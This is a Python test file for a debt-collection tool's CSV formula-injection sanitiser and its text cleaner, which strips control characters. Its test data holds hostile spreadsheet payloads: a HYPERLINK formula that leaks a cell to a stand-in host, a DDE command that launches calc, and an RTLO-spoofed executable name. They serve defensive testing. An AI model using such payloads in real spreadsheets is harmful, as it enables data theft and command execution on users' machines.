"""Spreadsheet cells that never run and account text without control characters."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dunning.render import calls
from dunning.text.cells import clean_text, csv_lines, csv_writer, safe_cell


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://evil.example/?"&B2,"x")', '\'=HYPERLINK("http://evil.example/?"&B2,"x")'),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("+12125550142", "+12125550142"),
        ("+8613812345678", "+8613812345678"),
        ("-12.50", "-12.50"),
        ("12.50", "12.50"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_safe_cell(value: str, expected: str) -> None:
    assert safe_cell(value) == expected


def test_csv_writer_neutralises_every_string_cell() -> None:
    buffer = io.StringIO()
    csv_writer(buffer, lineterminator="\n").writerows([["=1", "+12125550142", 3], ["ok", "@x", "-5"]])
    assert buffer.getvalue() == "'=1,+12125550142,3\nok,'@x,-5\n"
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["'=1", "+12125550142", "3"], ["ok", "'@x", "-5"]]


_CELL = st.text(alphabet=st.sampled_from([*",\"\n\r \t=+-@.'0123a", "你", "é", "\u2028", "\x00"]), max_size=12)


@given(st.lists(st.lists(_CELL | st.integers() | st.none(), min_size=1, max_size=5), max_size=6))
def test_csv_lines_are_what_the_csv_writer_writes(rows: list[list[object]]) -> None:
    buffer = io.StringIO()
    csv_writer(buffer, lineterminator="\n").writerows(rows)
    assert csv_lines(rows) == buffer.getvalue()  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "row", [[""], ["", ""], ["a\rb"], ['"'], ["x,y", "=1", "+8613812345678", "-1+1"], ["line\nbreak", " "]]
)
def test_csv_lines_edge_rows(row: list[str]) -> None:
    buffer = io.StringIO()
    csv_writer(buffer, lineterminator="\n").writerow(row)
    assert csv_lines([row]) == buffer.getvalue()


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("【示例金融】\u202egnp.exe\u202c 请还款", "【示例金融】gnp.exe 请还款"),
        ("Ann\x00a", "Anna"),
        ("line\u2028two\u2029three\x85four", "linetwothreefour"),
        ("a\u2066b\u2067c\u2068d\u2069e", "abcde"),
        ("\ufeffName", "Name"),
        ("1 Main St\r\nApt 2", "1 Main St Apt 2"),
        ("tab\there", "tab here"),
        ("王小明", "王小明"),
        ("plain text", "plain text"),
    ],
)
def test_clean_text(value: str, expected: str) -> None:
    assert clean_text(value) == expected


@given(st.lists(st.lists(_CELL | st.integers() | st.none(), min_size=11, max_size=13), max_size=8), st.booleans())
def test_dialer_rows_are_what_the_csv_writer_writes(rows: list[list[object]], repeat: bool) -> None:
    # calls.csv_bytes: the middle cells of a 12-cell row written from a memo; rows of other
    # lengths or with a cell that is not text as csv_lines writes them
    if repeat and rows:
        rows = rows + [list(row) for row in rows]  # each middle again, from the memo
    buffer = io.StringIO()
    csv_writer(buffer, lineterminator="\n").writerows(rows)
    assert calls.csv_bytes(rows) == buffer.getvalue().encode("utf-8")  # type: ignore[arg-type]
    assert calls.csv_bytes([list(calls.COLUMNS)]) == (",".join(calls.COLUMNS) + "\n").encode("utf-8")
